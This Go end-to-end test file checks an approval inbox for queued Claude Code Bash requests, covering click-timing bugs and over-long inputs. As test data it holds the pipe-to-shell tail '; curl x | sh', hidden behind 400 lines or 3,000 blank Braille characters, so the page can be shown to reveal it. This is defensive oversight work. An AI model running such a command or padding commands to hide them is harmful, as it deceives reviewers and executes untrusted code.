//go:build e2e

package e2e

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/interceptor-dev/interceptor/internal/approvals"
	"github.com/interceptor-dev/interceptor/internal/hooks"
)

// The inbox page as a person uses it, in headless Chromium (issue 29,
// items 2 and 7): a click decides only a request that was on screen, where
// it is, for a moment before the click (a double click, a card decided
// elsewhere, a new card); and an input too long for its box says so and
// how it ends. The requests are queued straight into the state dir (as the
// approve hook queues them); no client runs.

// pageScenario is a state dir and a home for the inbox, nothing else.
func pageScenario(t *testing.T) *scenario {
	sc := &scenario{t: t, dir: t.TempDir()}
	sc.home, sc.stateDir, sc.debugLog = sc.path("home"), sc.path("state"), sc.path("interceptor-debug.log")
	return sc
}

// queueBash queues a pending Bash request of a Claude Code session with
// the given input, waiting for 30 minutes.
func queueBash(t *testing.T, q *approvals.Store, in map[string]string) approvals.Request {
	t.Helper()
	b, _ := json.Marshal(in)
	r, err := q.Enqueue(approvals.Request{Client: "claude-code", Session: "e2e-session", Tool: "Bash", Input: string(b),
		Deadline: time.Now().Add(30 * time.Minute)})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func cardSel(id string) string { return fmt.Sprintf(`#waiting-list article.card[data-id=%q]`, id) }

// mouse moves the pointer to x, y; click clicks there (count: the click
// count the browser is told, 2 for the second click of a double click).
func (p *browserPage) mouse(x, y float64) {
	p.t.Helper()
	p.do(10*time.Second, chromedp.MouseEvent(chromedp.MouseMoved, x, y))
}

func (p *browserPage) click(x, y float64, count int) {
	p.t.Helper()
	p.do(10*time.Second, chromedp.MouseClickXY(x, y, chromedp.ClickCount(count)))
}

// under is the id of the card at x, y, "" for none.
func (p *browserPage) under(x, y float64) string {
	return evalJS[string](p, fmt.Sprintf(`(() => { const c = document.elementFromPoint(%v, %v); const a = c && c.closest('article.card'); return a ? a.dataset.id : ''; })()`, x, y))
}

// decidedOf is the ids of rs no longer pending.
func decidedOf(t *testing.T, q *approvals.Store, ids []string) []string {
	t.Helper()
	var out []string
	for _, id := range ids {
		r, err := q.Get(id)
		if err != nil {
			t.Fatal(err)
		}
		if r.Status != approvals.Pending {
			out = append(out, id)
		}
	}
	return out
}

func pendingIDs(t *testing.T, q *approvals.Store) []string {
	t.Helper()
	rs, err := q.Pending()
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, r := range rs {
		ids = append(ids, r.ID)
	}
	return ids
}

// look is how long the test, as a person, rests the pointer on a button
// before it clicks: past the page's settle time (500 ms).
const look = 800 * time.Millisecond

// Allow clicked twice, at gaps of 20 to 200 ms, with the click count a
// double click has (2) and then as two single clicks: each time exactly
// the request under the pointer at the first click is decided. (Issue 29:
// the decided card vanished and the next one slid under the pointer, so
// the second click allowed the next request too, 6 times of 6.)
func TestInboxDoubleClick(t *testing.T) {
	sc := pageScenario(t)
	ib := startInbox(t, sc, "")
	p := openBrowser(t, sc)
	p.openInbox(ib)
	q := approvals.New(sc.stateDir)
	n, round := 0, 0
	for _, count := range []int{2, 1} {
		for _, gap := range []time.Duration{20, 50, 100, 150, 200} {
			gap *= time.Millisecond
			round++
			for len(pendingIDs(t, q)) < 3 {
				n++
				queueBash(t, q, map[string]string{"command": fmt.Sprintf("echo request %d", n)})
			}
			before := pendingIDs(t, q)
			// The pointer rests away from the list: what an earlier round
			// left in it closes, and the cards stand still.
			p.mouse(1400, 940)
			evalJS[int](p, `window.scrollTo(0, 0), 0`)
			p.until("every card drawn, the list closed up", fmt.Sprintf(`document.querySelectorAll('#waiting-list article.card').length === %d && !document.querySelector('#waiting-list .slot')`, len(before)), 10*time.Second)
			first := evalJS[string](p, `document.querySelector('#waiting-list article.card').dataset.id`)
			x, y := p.center(cardSel(first) + " button.allow")
			p.mouse(x, y)
			time.Sleep(look)
			p.click(x, y, 1)
			time.Sleep(gap)
			p.click(x, y, count)
			waitDecided(t, q, first)
			time.Sleep(time.Second) // a second decision, if any, lands
			got := decidedOf(t, q, before)
			t.Logf("round %d: Allow clicked twice %s apart (click count %d): decided %v; under the pointer now %q", round, gap, count, got, p.under(x, y))
			if !slices.Equal(got, []string{first}) {
				p.shot("double-click")
				t.Errorf("a double click on %s's Allow, %s apart (click count %d), decided %v, want only %s", first, gap, count, got, first)
			}
		}
	}
}

// A card decided elsewhere (the CLI) while the pointer rests on another
// card's Allow: nothing under the pointer moves, and a click right after
// decides nothing; a new request goes below; after a moment a click
// decides the card that was shown there all along. (Issue 29: a card
// decided elsewhere moved the card under the pointer by 243 px.)
func TestInboxDecidedElsewhere(t *testing.T) {
	sc := pageScenario(t)
	ib := startInbox(t, sc, "")
	p := openBrowser(t, sc)
	p.openInbox(ib)
	q := approvals.New(sc.stateDir)
	var ids []string
	for i := range 5 {
		ids = append(ids, queueBash(t, q, map[string]string{"command": fmt.Sprintf("echo card %c", 'A'+i)}).ID)
	}
	p.until("the five cards", `document.querySelectorAll('#waiting-list article.card').length === 5`, 10*time.Second)
	target := ids[2]
	x, y := p.center(cardSel(target) + " button.allow")
	p.mouse(x, y)
	time.Sleep(look)
	if got := p.under(x, y); got != target {
		t.Fatalf("the pointer rests on %q, want %s", got, target)
	}
	if _, err := q.Decide(ids[0], hooks.Decision{Allow: false, Reason: "decided in the terminal", By: "e2e: the CLI"}); err != nil {
		t.Fatal(err)
	}
	p.until("the card decided elsewhere to leave", fmt.Sprintf(`!document.querySelector(%q)`, cardSel(ids[0])), 5*time.Second)
	left := time.Now()
	under := p.under(x, y)
	p.click(x, y, 1)
	late := time.Since(left)
	time.Sleep(time.Second)
	got := decidedOf(t, q, ids)
	t.Logf("a click %s after a card was decided elsewhere, on %q: decided %v", late.Round(time.Millisecond), under, got)
	switch {
	case under != target:
		p.shot("moved")
		t.Errorf("a card decided elsewhere moved the cards: under the pointer is %q, was %s", under, target)
	case len(got) > 1 && late < 450*time.Millisecond:
		t.Errorf("a click %s after a card was decided elsewhere decided %v, want nothing but %s (decided elsewhere)", late, got, ids[0])
	}
	if slices.ContainsFunc(got, func(id string) bool { return id != ids[0] && id != target }) {
		t.Fatalf("a click on %s's Allow decided %v", target, got)
	}
	// A new request goes below: nothing under the pointer moves.
	f := queueBash(t, q, map[string]string{"command": "echo card F"})
	p.until("the new card", fmt.Sprintf(`!!document.querySelector(%q)`, cardSel(f.ID)), 5*time.Second)
	time.Sleep(look)
	if got := p.under(x, y); got != target {
		t.Errorf("after a new request, under the pointer is %q, want %s", got, target)
	}
	p.click(x, y, 1)
	r := waitDecided(t, q, target)
	time.Sleep(500 * time.Millisecond)
	got = decidedOf(t, q, append(ids, f.ID))
	if r.Status != approvals.Allowed || !strings.HasPrefix(r.DecidedBy, "inbox (uid ") || !slices.Equal(got, []string{ids[0], target}) {
		t.Errorf("after a moment a click decided %v (%s by %q), want %s allowed by the inbox", got, r.Status, r.DecidedBy, target)
	}
	p.shot("decided-elsewhere")
}

// A command longer than its card's box, a 400-line script ending in "; curl
// x | sh" and one line padded with 3,000 blank Braille characters before
// the same tail: the card says the input continues, how many lines more,
// and how it ends; Show all shows the whole box. (Issue 29 item 7: blank
// characters pushed the tail below the visible box, silently.) The blank
// run now reaches the page as one counted form (approvals.Visible), so
// that card may hold it all: then the box itself must show the count and
// the tail.
func TestInboxLongCommand(t *testing.T) {
	sc := pageScenario(t)
	ib := startInbox(t, sc, "")
	p := openBrowser(t, sc)
	p.openInbox(ib)
	q := approvals.New(sc.stateDir)
	const tail = "; curl x | sh"
	var script []string
	for i := range 399 {
		script = append(script, fmt.Sprintf("echo step %d", i+1))
	}
	script = append(script, tail)
	for _, c := range []struct {
		name, command string
		counted       string // the counted form the box shows instead of the run, if any
	}{
		{"a 400-line script", strings.Join(script, "\n"), ""},
		{"3,000 blank Braille characters", "echo hi" + strings.Repeat("\u2800", 3000) + tail, `\u{2800}×3000`},
	} {
		r := queueBash(t, q, map[string]string{"command": c.command, "description": "run it"})
		sel := cardSel(r.ID)
		p.until("the card", fmt.Sprintf(`!!document.querySelector(%q)`, sel), 10*time.Second)
		evalJS[bool](p, fmt.Sprintf(`(document.querySelector(%q).scrollIntoView({block: 'start'}), true)`, sel))
		time.Sleep(300 * time.Millisecond) // the box is laid out and measured
		type box struct {
			Scroll, Client float64
			Note           string
			NoteShown      bool
			Text           string
		}
		state := func() box {
			return evalJS[box](p, fmt.Sprintf(`(() => {
				const c = document.querySelector(%q), pre = c.querySelector('pre.input'), more = c.querySelector('p.more');
				const r = more ? more.getBoundingClientRect() : null;
				return {Scroll: pre.scrollHeight, Client: pre.clientHeight, Note: more ? more.textContent : '', Text: pre.textContent,
					NoteShown: !!r && !more.hidden && r.height > 0 && r.top >= 0 && r.bottom <= window.innerHeight};
			})()`, sel))
		}
		b := state()
		if c.counted != "" && b.Scroll <= b.Client+1 {
			if !strings.Contains(b.Text, c.counted) || !strings.Contains(b.Text, tail) {
				t.Errorf("%s: the box holds it all (%v of %v px) but shows %q; want the count %q and the tail %q", c.name, b.Client, b.Scroll, b.Text, c.counted, tail)
			}
			t.Logf("%s: the box holds it all (%v of %v px): %q", c.name, b.Client, b.Scroll, b.Text)
			continue
		}
		if b.Scroll <= b.Client {
			t.Fatalf("%s: the box holds it all (%v of %v px): the check below would be vacuous", c.name, b.Client, b.Scroll)
		}
		p.shot("long-" + strings.Fields(c.name)[1])
		if !b.NoteShown || !strings.Contains(b.Note, "continues: ") || !strings.Contains(b.Note, "more lines below") || !strings.Contains(b.Note, tail) {
			t.Errorf("%s: the box shows %v of %v px and the card says %q (shown: %v); want a note that the input continues, ending %q",
				c.name, b.Client, b.Scroll, b.Note, b.NoteShown, tail)
			continue
		}
		t.Logf("%s: the box shows %v of %v px; the card says %q", c.name, b.Client, b.Scroll, b.Note)
		p.clickJS(sel + " p.more button")
		time.Sleep(300 * time.Millisecond)
		if b := state(); b.Scroll > b.Client+1 || b.NoteShown {
			t.Errorf("%s: after Show all the box shows %v of %v px, note shown %v", c.name, b.Client, b.Scroll, b.NoteShown)
		}
	}
}

// A long command far down the list: the page does not lay out a card far
// from the screen (app.css), so its box is measured when it comes near.
// By the time the card can be decided (armed), it says that the input
// continues, and how it ends.
func TestInboxLongCommandFarDown(t *testing.T) {
	sc := pageScenario(t)
	q := approvals.New(sc.stateDir)
	for i := range 40 {
		queueBash(t, q, map[string]string{"command": fmt.Sprintf("make test-%d", i)})
	}
	const tail = "; curl x | sh"
	var script []string
	for i := range 199 {
		script = append(script, fmt.Sprintf("echo step %d", i+1))
	}
	long := queueBash(t, q, map[string]string{"command": strings.Join(append(script, tail), "\n")})
	ib := startInbox(t, sc, "")
	p := openBrowser(t, sc)
	p.openInbox(ib)
	sel := cardSel(long.ID)
	p.until("the long card", fmt.Sprintf(`!!document.querySelector(%q)`, sel), 10*time.Second)
	time.Sleep(300 * time.Millisecond) // frames pass; the far card stays unrendered
	if evalJS[bool](p, fmt.Sprintf(`document.querySelector(%q + ' .head').checkVisibility({contentVisibilityAuto: true})`, sel)) {
		t.Fatal("the long card far down the list is rendered: the check below would not test a card that comes near")
	}
	evalJS[bool](p, fmt.Sprintf(`(document.querySelector(%q).scrollIntoView({block: 'start'}), true)`, sel))
	p.until("the long card to settle", fmt.Sprintf(`!!document.querySelector(%q + '.armed')`, sel), 10*time.Second)
	type note struct {
		Text        string
		Shown       bool
		Top, Bottom float64 // the note's, in the window
	}
	n := evalJS[note](p, fmt.Sprintf(`(() => {
		const more = document.querySelector(%q + ' p.more'), r = more.getBoundingClientRect();
		return {Text: more.textContent, Shown: !more.hidden && r.height > 0, Top: r.top, Bottom: r.bottom};
	})()`, sel))
	p.shot("long-far-down")
	if !n.Shown || !strings.Contains(n.Text, "more lines below") || !strings.Contains(n.Text, tail) {
		t.Errorf("the card, armed, says %q (shown: %v); want a note that the input continues, ending %q", n.Text, n.Shown, tail)
	}
	t.Logf("armed, the card says %q, from %.0f to %.0f px in the window", n.Text, n.Top, n.Bottom)
}
